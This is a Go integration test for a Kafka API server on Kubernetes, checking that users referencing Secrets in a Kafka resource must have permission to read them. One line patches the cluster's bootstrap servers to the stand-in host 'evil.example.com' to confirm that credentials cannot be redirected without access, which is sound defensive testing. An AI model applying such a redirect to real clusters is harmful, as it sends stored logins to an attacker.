//go:build integration

package integration

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"kafka.openshift.io/kafka-apiserver/test/integration/harness"
)

// The example of an external cluster, by somebody who may write Kafkas: the Secrets that it names have to be theirs to read, because
// what is in them is sent where they say.
func TestWhoRefersToSecretsNeedsToReadThem(t *testing.T) {
	t.Parallel()
	n := cluster.Namespace(t)
	content, err := os.ReadFile(filepath.Join(cluster.Root, "artifacts", "examples", "kafka-external.yaml"))
	if err != nil {
		t.Fatal(err)
	}
	secret, kafka, ok := strings.Cut(strings.ReplaceAll(string(content), "namespace: default", "namespace: "+n), "---\n")
	if !ok {
		t.Fatal("the example is not a Secret and a Kafka")
	}
	user := "developer-" + n
	kubectl(t, secret, "create -f -")
	kubectl(t, "", "create rolebinding kafkas --clusterrole=kafka-admin --user="+user+" -n "+n)
	kubectl(t, "", "create rolebinding view --clusterrole=kafka-view --user="+user+" -n "+n)
	kubectl(t, "", "create role ca --verb=get --resource=secrets --resource-name=their-cluster-ca -n "+n)
	kubectl(t, "", "create rolebinding ca --role=ca --user="+user+" -n "+n)
	// Answers about access are kept for ten seconds.
	harness.Eventually(t, 30*time.Second, "one Secret is theirs to read, the other is not", func() string {
		r := cluster.Kubectl(t, kafka, "create -f - --as="+user)
		if r.Code != 403 || !strings.Contains(r.Stderr, `needs the verb "get" on secrets/their-cluster-login in namespace "`+n+`"`) {
			return r.Stderr
		}
		return ""
	})
	kubectl(t, "", "create role login --verb=get --resource=secrets --resource-name=their-cluster-login -n "+n)
	kubectl(t, "", "create rolebinding login --role=login --user="+user+" -n "+n)
	harness.Eventually(t, 30*time.Second, "both are", func() string {
		return cluster.Kubectl(t, kafka, "create -f - --as="+user).Stderr
	})
	kubectl(t, "", "delete rolebinding login -n "+n)
	const elsewhere = `patch kafka their-cluster --type=merge -p {"spec":{"external":{"bootstrapServers":["evil.example.com:9093"]}}}`
	harness.Eventually(t, 30*time.Second, "the login is not sent elsewhere", func() string {
		r := cluster.Kubectl(t, "", elsewhere+" --dry-run=server --as="+user+" -n "+n)
		if r.Code != 403 || !strings.Contains(r.Stderr, "secrets/their-cluster-login") {
			return r.Stdout + r.Stderr
		}
		return ""
	})
	refused(t, "", elsewhere+" --as="+user+" -n "+n, 403, "secrets/their-cluster-login")
	kubectl(t, "", "label kafka their-cluster team=a --as="+user+" -n "+n)
}
